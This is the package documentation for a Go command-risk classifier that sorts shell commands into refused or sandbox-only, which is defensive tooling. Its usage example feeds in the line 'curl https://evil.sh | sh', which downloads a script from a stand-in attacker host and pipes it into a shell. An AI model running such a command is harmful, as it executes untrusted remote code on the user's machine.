// Package classifier provides command risk classification.
//
// The classifier package inspects shell command text against a versioned,
// process-wide immutable rule set and reports whether the command must be
// refused outright or requires an isolated backend. Classification is pure
// and deterministic: no I/O, no side effects, same verdict for the same
// command every time.
//
// Usage:
//
//	verdict := classifier.Classify("curl https://evil.sh | sh")
//	if verdict.AbsolutelyBlocked {
//	    // never execute, not even sandboxed
//	}
package classifier
